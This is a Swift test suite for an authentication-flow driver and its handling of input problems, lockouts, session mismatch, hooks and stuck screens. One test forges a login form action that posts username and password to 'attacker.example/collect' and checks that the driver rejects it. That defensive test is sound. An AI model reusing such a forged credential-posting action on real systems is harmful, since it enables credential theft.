import Foundation
import HaapiClient
import HaapiDevServer
import HaapiFlow
import HaapiModel
import HaapiTesting
import Testing

@Suite("Driver against the dev server: problems, fabricated actions, hooks, stuck screens")
struct DriverProblemTests {
    @Test func invalidInputIsAttachedToFields() async throws {
        try await FlowHarness.run { h in
            let driver = try h.driver()
            try await driver.start()
            try await driver.chooseAuthenticator("username-password")
            try await driver.press(.login, ["userName": "", "password": ""])
            let form = try await driver.form()
            #expect(form.problem?.type == .invalidInput)
            let errors = form.inputs.compactMap { item -> String? in
                if case .inputText(let input) = item { return input.error }
                return nil
            }
            #expect(errors == ["You have to enter your username", "You have to enter your password"])
        }
    }

    @Test func incorrectCredentialsThenTooManyAttemptsStayOnTheForm() async throws {
        try await FlowHarness.run({ configuration in
            configuration.authenticators[0].maxAttempts = 2
        }) { h in
            let driver = try h.driver()
            try await driver.start()
            try await driver.chooseAuthenticator("username-password")
            try await driver.press(.login, ["userName": "mallory", "password": "wrong"])
            let first = try await driver.screen()
            #expect(try await driver.form().problem?.type == .incorrectCredentials)
            #expect(try await driver.form().problem?.messages.map(\.text) == ["1 attempt left"])
            try await driver.press(.login, ["userName": "mallory", "password": "wrong again"])
            #expect(try await driver.screen().id == first.id)
            #expect(try await driver.form().problem?.type == .tooManyAttempts)
            // The person starts again and succeeds.
            try await driver.restart()
            try await driver.logInWithPassword()
            _ = try tokens(await driver.result())
        }
    }

    @Test func sessionMismatchRestartsTheFlow() async throws {
        try await FlowHarness.run { h in
            // Another client (another DPoP key) owns a session.
            let otherProbe = TransportProbe()
            let other = HaapiClient(
                configuration: try h.client().configuration, transport: ProbingTransport(probe: otherProbe))
            _ = try await other.start()
            let foreignSession = try #require(await otherProbe.lastSessionSet)

            let driver = try h.driver()
            var diagnostics = driver.diagnostics.makeAsyncIterator()
            try await driver.start()
            await h.probe.overrideNextSession(with: foreignSession)
            try await driver.chooseAuthenticator("username-password")
            // The server refused the session; the flow started again at the picker.
            guard case .selector = try await driver.screen().model else { throw TestError("not restarted") }
            var restarted = false
            while let diagnostic = await diagnostics.next() {
                if case .flowRestarted = diagnostic { restarted = true; break }
            }
            #expect(restarted)
            try await driver.logInWithPassword()
            _ = try tokens(await driver.result())
        }
    }

    @Test func deniedConsentEndsWithTheOAuthError() async throws {
        try await FlowHarness.run { h in
            let driver = try h.driver(client: try h.client(clientID: "haapi-consent", secret: "haapi-consent-secret"))
            try await driver.start()
            try await driver.logInWithPassword()
            try await driver.press(.cancel)
            guard case .oauthError(let error) = await driver.result() else { throw TestError("not an OAuth error") }
            #expect(error.error == "access_denied")
        }
    }

    @Test func fabricatedActionIsRejectedAndNothingIsSent() async throws {
        try await FlowHarness.run { h in
            let driver = try h.driver()
            try await driver.start()
            try await driver.chooseAuthenticator("username-password")
            let login = try #require(try await driver.form().buttons.first).actionModel
            var fabricated = login
            fabricated.action.model = .form(FormActionModel(href: Href(string: "https://attacker.example/collect")!, method: .post, fields: [
                Field(name: "userName", type: .username), Field(name: "password", type: .password),
            ]))
            let before = await h.probe.count
            await #expect(throws: HaapiFlowError.actionNotOffered(id: login.id, screen: "FormModel #2")) {
                try await driver.submit(interactionActionModel: fabricated, values: ["userName": "demo", "password": "Password1"])
            }
            await #expect(throws: HaapiFlowError.invalidParameters(actionID: login.id, reason: "the form has no field \"pin\"")) {
                try await driver.submit(interactionActionModel: login, values: ["pin": "1234"])
            }
            #expect(await h.probe.count == before)
        }
    }

    @Test func hooksChangeOrStopActions() async throws {
        try await FlowHarness.run { h in
            let hooks = ClosureFlowHooks(
                preSubmit: { action, parameters in
                    var parameters = parameters
                    if case .text(let name)? = parameters["userName"] { parameters["userName"] = .text(name.trimmingCharacters(in: .whitespaces)) }
                    return .proceed(parameters: parameters)
                },
                preSelect: { item in item.actionModel.action.form?.href.url.path.hasSuffix("/totp") != true },
                preFollow: { _ in false })
            let driver = try h.driver(hooks: hooks)
            try await driver.start()
            guard case .selector(let picker) = try await driver.screen().model else { throw TestError("no picker") }
            let totp = try #require(picker.items.first { $0.actionModel.action.form?.href.url.path.hasSuffix("/totp") == true })
            await #expect(throws: HaapiFlowError.stoppedByHook(hook: "preSelect", actionID: totp.actionModel.id)) {
                try await driver.select(selectorItemModel: totp)
            }
            try await driver.chooseAuthenticator("username-password")
            let link = try #require(try await driver.form().links.first)
            await #expect(throws: HaapiFlowError.stoppedByHook(hook: "preFollow", actionID: link.id)) {
                try await driver.follow(linkItemModel: link)
            }
            try await driver.press(.login, ["userName": "  demo  ", "password": DevServerConfiguration.demoPassword])
            _ = try tokens(await driver.result())
        }
    }

    @Test func followingALinkShowsItsStep() async throws {
        try await FlowHarness.run { h in
            let driver = try h.driver()
            try await driver.start()
            try await driver.chooseAuthenticator("username-password")
            let forgot = try #require(try await driver.form().links.first { $0.rel == .forgotPassword })
            try await driver.follow(linkItemModel: forgot)
            #expect(try await driver.form().buttons.first?.actionModel.kind == .passwordReset)
        }
    }

    @Test func stuckScreenIsReported() async throws {
        try await FlowHarness.run { h in
            var configuration = FlowConfiguration()
            configuration.stuckScreenTimeout = .seconds(10)
            let driver = try h.driver(configuration: configuration)
            var diagnostics = driver.diagnostics.makeAsyncIterator()
            try await driver.start()
            let screen = try await driver.screen()
            await driver.personInteracted()
            try await h.clock.advanceToNextSleeper(within: .seconds(10))
            while let diagnostic = await diagnostics.next() {
                if case .stuckScreen(let id, let type, _, let seconds) = diagnostic {
                    #expect(id == screen.id && type == "SelectorModel" && seconds == 10)
                    return
                }
            }
            Issue.record("no stuck-screen diagnostic")
        }
    }

    @Test func aHookThatTakesLongerThanTheStuckCheckIsNotAStuckScreen() async throws {
        try await FlowHarness.run { h in
            var configuration = FlowConfiguration()
            configuration.stuckScreenTimeout = .seconds(10)
            let (entered, enteredContinuation) = AsyncStream<Void>.makeStream()
            let (gate, gateContinuation) = AsyncStream<Void>.makeStream()
            // The screen's hook asks the person something and waits for the answer.
            let asking = ClosureFlowHooks(preSelect: { _ in
                enteredContinuation.yield()
                for await _ in gate { break }
                return true
            })
            let driver = try h.driver(configuration: configuration)
            try await driver.start()
            guard case .selector(let picker) = try await driver.screen().model else { throw TestError("no picker") }
            let password = try #require(picker.items.first { $0.actionModel.action.form?.href.url.path.hasSuffix("/username-password") == true })
            await driver.personInteracted()
            async let chosen: Void = driver.select(selectorItemModel: password, screenHooks: asking)
            for await _ in entered { break }
            try await h.clock.advanceToNextSleeper(within: .seconds(10))   // the stuck check's time passes while the hook asks
            for _ in 0..<20 {   // lets the check reach the driver before the hook answers
                await Task.yield()
                _ = await driver.state
            }
            gateContinuation.yield()
            try await chosen
            _ = try await driver.form()
            await driver.cancel()
            var stuck: [FlowDiagnostic] = []
            for await diagnostic in driver.diagnostics {
                if case .stuckScreen = diagnostic { stuck.append(diagnostic) }
            }
            #expect(stuck.isEmpty)
        }
    }
}
